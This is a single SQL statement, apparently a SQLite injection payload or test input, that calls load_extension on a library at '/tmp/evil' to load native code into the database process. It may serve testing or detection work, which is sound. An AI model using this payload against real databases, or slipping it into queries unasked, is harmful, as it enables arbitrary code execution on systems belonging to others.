SELECT load_extension('/tmp/evil')
